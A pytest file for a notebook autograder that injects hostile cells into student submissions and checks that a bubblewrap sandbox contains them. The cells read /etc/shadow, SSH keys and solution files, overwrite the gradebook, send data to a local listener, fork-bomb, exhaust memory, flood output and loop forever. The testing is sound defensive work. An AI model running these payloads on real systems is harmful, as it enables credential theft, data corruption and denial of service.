"""Hostile submissions cannot escape, stall or corrupt the grading (plain ``nbgrader autograde``).

A class of one honest student and several attackers is autograded once in a temporary
course.  Each attacker is the correct solution plus one attack cell right after the
setup cell.  Every attack must fail inside the sandbox, the notebook must go on, and
every student (attackers included, since their answers are correct) must get full marks;
the gradebook must be intact, no secret may appear in any output, no connection may reach
the grader's machine, and the whole class must be graded in bounded time.
"""

from __future__ import annotations

import socket
import threading
import time

import nbformat
import pytest

from autograder.course import report
from autograder.course.grading import grade_class
from autograder.course.nbgrader_cli import make_course
from autograder.grader.sandbox import bubblewrap_works
from autograder.paths import REPO_ROOT

NOTEBOOK = "bonus_prediction_nn.ipynb"
CORRECT = REPO_ROOT / "sample_class" / "submitted" / "correct" / "bonus_predictor" / NOTEBOOK
FULL = 23.0

ATTACKS = {
    "reads-secrets": """
import glob
for pattern in ["{course}/source/*/*.ipynb", "{course}/gradebook.db", "{course}/submitted/*/*/*.ipynb",
                "{course}/autograded/honest/*/*.ipynb", "{repo}/source/*/*.ipynb", "{repo}/solutions/*/*.ipynb",
                "/root/.ssh/*", "/etc/shadow"]:
    for path in glob.glob(pattern):
        try:
            print("STOLEN", path, open(path, "rb").read(40))
        except OSError as error:
            print("refused", path, error)
""",
    "writes-gradebook": """
for target in ["{course}/gradebook.db", "{course}/nbgrader_config.py", "{repo}/autograder/checks/bonus_predictor.py",
               "{course}/autograded/honest/bonus_predictor/{notebook}"]:
    try:
        with open(target, "r+b") as handle:
            handle.write(b"PWNED" * 100)
        print("WROTE", target)
    except OSError as error:
        print("refused", target, error)
""",
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"exfiltrated")
    print("CONNECTED")
except OSError as error:
    print("no network:", error)
""",
    "fork-bomb": """
import os, time
children = 0
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork refused after", children, "children:", error)
""",
    "memory-bomb": """
def hog():
    blocks = []
    while True:
        blocks.append(bytearray(256 * 2**20))
try:
    hog()
except MemoryError:
    print("memory refused")
""",
    "output-flood": """
print("x" * (100 * 2**20))
""",
    "endless-loop": """
while True:
    pass
""",
}


class Listener:
    """A TCP server on the grader's loopback that records every connection it gets."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port, self.connections, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, addr = self.sock.accept()
                self.connections.append(addr)
                conn.close()
            except OSError:
                pass


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    if not bubblewrap_works():
        pytest.skip("bubblewrap cannot create namespaces here: student code would not be isolated")
    listener = Listener()
    course = make_course(tmp_path_factory.mktemp("hostile") / "course")
    submitted = course.parent / "incoming"
    correct = nbformat.read(str(CORRECT), as_version=4)
    for student, code in {"honest": None, **ATTACKS}.items():
        nb = nbformat.read(str(CORRECT), as_version=4)
        if code:
            text = code.format(course=course, repo=REPO_ROOT, port=listener.port, notebook=NOTEBOOK)
            nb.cells.insert(2, nbformat.v4.new_code_cell(text.strip()))
        path = submitted / student / "bonus_predictor" / NOTEBOOK
        path.parent.mkdir(parents=True)
        nbformat.write(nb, str(path))
    start = time.monotonic()
    import os
    os.environ["KIT_CELL_TIMEOUT"], saved = "30", os.environ.get("KIT_CELL_TIMEOUT")
    try:
        run = grade_class(course, submitted, ["bonus_predictor"])
    finally:
        os.environ.pop("KIT_CELL_TIMEOUT") if saved is None else os.environ.__setitem__("KIT_CELL_TIMEOUT", saved)
    listener.stop = True
    return course, run, time.monotonic() - start, listener, correct


def outputs(course, student) -> str:
    nb = nbformat.read(str(course / "autograded" / student / "bonus_predictor" / NOTEBOOK), as_version=4)
    return "\n".join(o.get("text", "") + o.get("evalue", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs)


@pytest.mark.slow
def test_every_student_keeps_full_marks(hostile_class):
    course, *_ = hostile_class
    scores = {r.student: r.score for r in report.read_results(f"sqlite:///{course / 'gradebook.db'}", ["bonus_predictor"])}
    assert scores == {s: FULL for s in ["honest", *ATTACKS]}


@pytest.mark.slow
def test_no_secret_is_read_and_nothing_is_written(hostile_class):
    course, *_ = hostile_class
    stolen = outputs(course, "reads-secrets")
    assert "STOLEN" not in stolen, stolen
    wrote = outputs(course, "writes-gradebook")
    assert "WROTE" not in wrote and "refused" in wrote, wrote
    assert (course / "gradebook.db").read_bytes()[:15] == b"SQLite format 3"
    assert b"PWNED" not in (REPO_ROOT / "autograder" / "checks" / "bonus_predictor.py").read_bytes()


@pytest.mark.slow
def test_no_connection_leaves_the_sandbox(hostile_class):
    _, _, _, listener, _ = hostile_class
    assert listener.connections == []


@pytest.mark.slow
def test_resource_attacks_are_stopped_and_grading_goes_on(hostile_class):
    course, run, seconds, *_ = hostile_class
    assert "fork refused" in outputs(course, "fork-bomb")
    assert "memory refused" in outputs(course, "memory-bomb")
    flood = course / "autograded" / "output-flood" / "bonus_predictor" / NOTEBOOK
    assert flood.stat().st_size < 10 * 2**20 and "output truncated" in outputs(course, "output-flood")
    assert seconds < 900, f"the hostile class took {seconds:.0f} s"
